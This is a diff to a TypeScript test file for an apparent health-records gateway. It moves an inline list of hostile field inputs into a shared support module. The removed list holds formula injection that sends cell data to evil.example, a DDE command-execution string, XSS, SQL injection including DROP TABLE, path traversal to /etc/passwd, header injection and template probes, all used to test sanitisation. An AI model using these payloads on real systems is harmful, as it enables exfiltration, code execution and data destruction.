@@ -7,27 +7,9 @@ import { PAGE_POLICY } from '../../gateway/src/exports/printedPage.js';
 import { requireValidR4 } from '../../gateway/src/fhir/r4Validation.js';
 import { OWN } from '../support/consentHospital.js';
 import { BIOMEDICAL, DAY_MS } from '../support/consentOnChannel.js';
+import { HOSTILE } from '../support/hostileTexts.js';
 import { OfficerDesk } from '../support/officerDesk.js';
 
-/** What each field is attacked with: formulas, markup, SQL, paths, headers, marks that turn text around. */
-const HOSTILE = [
-  '=HYPERLINK("https://evil.example/?"&A1)',
-  '+1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\uFF1D1+1',
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'; DROP TABLE event; --",
-  "' OR '1'='1",
-  '../../etc/passwd',
-  'a\r\nSet-Cookie: evil=1',
-  '\u202Egnp.exe',
-  '{{7*7}}<%= 7*7 %>',
-  'line\nbreak,"quote"',
-] as const;
 const CONTACT = {
   address: '1 Main Street',
   email: 'a@b.example',
